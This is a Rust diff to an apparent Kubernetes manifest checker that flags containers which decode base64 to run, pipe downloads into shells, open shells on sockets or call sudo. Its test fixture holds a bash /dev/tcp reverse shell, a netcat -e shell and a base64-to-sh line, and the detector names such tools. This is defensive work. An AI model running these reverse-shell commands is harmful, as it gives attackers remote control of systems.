@@ -50,7 +50,7 @@ pub static CHECK: Check = Check {
         ),
         (
             "manifests: [{file: a.yaml, pod: {metadata: {name: a}, spec: {initContainers: [{name: i, args: ['echo x|base64 -d|sh']}], containers: [{name: c, lifecycle: {postStart: {exec: {command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1']}}}}, {name: d, command: [nc, -lvp, '4444', -e, /bin/sh]}]}}}, {file: b.yaml, unread: denied}]",
-            "FAIL medium: container i of default/a decodes what it runs; medium: container c of default/a connects a shell to a socket; medium: container d of default/a connects a shell to a socket; gap: the login may not read it",
+            "FAIL medium: container i of default/a decodes base64; medium: container c of default/a connects a shell to a socket; medium: container d of default/a connects a shell to a socket; gap: the login may not read it",
         ),
         (
             "manifests: {gap: denied}",
@@ -92,76 +92,50 @@ fn one(inside: &Inside<'_>) -> Option<Offence> {
     })
 }
 
+const SHELLS: [&str; 8] = [
+    "ash", "bash", "dash", "perl", "python", "python3", "sh", "zsh",
+];
+
 /// What a command line does that none should; only the words are told, never the line, which may hold secrets.
 fn signs(line: &str) -> Vec<&'static str> {
-    let programs: Vec<Vec<&str>> = line
-        .split(['|', ';', '&', '\n'])
-        .map(|part| part.split_whitespace().collect())
-        .collect();
-    let name = |words: &[&str]| {
-        let mut words = words
-            .iter()
-            .skip_while(|word| **word == "sudo" || word.contains('='));
-        let first = words.next().copied().unwrap_or("");
-        first
-            .trim_start_matches(['$', '(', '`', '"', '\''])
-            .rsplit('/')
-            .next()
-            .unwrap_or("")
-            .to_owned()
-    };
-    let names: Vec<String> = programs.iter().map(|words| name(words)).collect();
-    let has = |wanted: &[&str]| {
-        names
-            .iter()
-            .position(|name| wanted.contains(&name.as_str()))
-    };
-    let shells = [
-        "sh", "bash", "ash", "dash", "zsh", "python", "python3", "perl",
-    ];
-    let mut found = Vec::new();
-    let behind = |at: usize| {
-        line.contains('|')
-            && names[at + 1..]
-                .iter()
-                .any(|name| shells.contains(&name.as_str()))
-    };
-    // The shell that runs the line stands before the download, so only what follows is at the pipe's end.
-    let fetch = programs.iter().zip(&names).position(|(words, name)| {
-        let inner = words.iter().any(|word| {
-            matches!(
-                word.trim_start_matches(['$', '(', '`', '"', '\'']),
-                "curl" | "wget"
-            )
-        });
-        matches!(name.as_str(), "curl" | "wget") || inner
+    let parts: Vec<Vec<&str>> = line.split(['|', ';', '&', '\n']).map(programs).collect();
+    let has = |words: &[&str], wanted: &[&str]| words.iter().any(|word| wanted.contains(word));
+    // The shell that runs the line stands before the download: only one behind it is fed by it.
+    let fetch = parts.iter().position(|words| has(words, &["curl", "wget"]));
+    let is_piped = line.contains('|');
+    let fed = fetch.is_some_and(|at| parts[at + 1..].iter().any(|words| starts(words)));
+    let decodes = parts
+        .iter()
+        .any(|words| has(words, &["base64"]) && has(words, &["-d", "-D", "--decode"]));
+    let netcat = parts.iter().any(|words| {
+        let options = ["-e", "-c", "--exec", "--sh-exec"];
+        has(words, &["nc", "ncat", "netcat"]) && has(words, &options)
     });
-    if fetch.is_some_and(behind) {
-        found.push("pipes a download into a shell");
-    }
-    let all: Vec<&str> = line.split_whitespace().collect();
-    let decodes = programs.iter().any(|words| {
-        words.iter().any(|word| word.ends_with("base64"))
-            && words
-                .iter()
-                .any(|word| matches!(*word, "-d" | "-D" | "--decode"))
-    });
-    if decodes {
-        found.push("decodes what it runs");
-    }
-    let netcat = programs.iter().any(|words| {
-        let is = words
-            .iter()
-            .any(|word| matches!(word.rsplit('/').next(), Some("nc" | "ncat" | "netcat")));
-        is && words
-            .iter()
-            .any(|word| matches!(*word, "-e" | "-c" | "--exec" | "--sh-exec"))
-    });
-    if netcat || line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
-        found.push("connects a shell to a socket");
-    }
-    if has(&["sudo"]).is_some() || all.contains(&"sudo") {
-        found.push("calls sudo");
-    }
-    found
+    let socket = netcat || line.contains("/dev/tcp/") || line.contains("/dev/udp/");
+    let sudo = parts.iter().any(|words| has(words, &["sudo"]));
+    [
+        (is_piped && fed, "pipes a download into a shell"),
+        (decodes, "decodes base64"),
+        (socket, "connects a shell to a socket"),
+        (sudo, "calls sudo"),
+    ]
+    .into_iter()
+    .filter_map(|(is, sign)| is.then_some(sign))
+    .collect()
+}
+
+/// The words of a part of a line, without folders and what stands around a command within another.
+fn programs(part: &str) -> Vec<&str> {
+    let words = part.split_whitespace();
+    let bare = words.map(|word| word.trim_start_matches(['$', '(', '`', '"', '\'']));
+    bare.map(|word| word.rsplit('/').next().unwrap_or(word))
+        .collect()
+}
+
+/// Whether a part starts a shell.
+fn starts(words: &[&str]) -> bool {
+    let mut words = words
+        .iter()
+        .skip_while(|word| **word == "sudo" || word.contains('='));
+    words.next().is_some_and(|word| SHELLS.contains(word))
 }
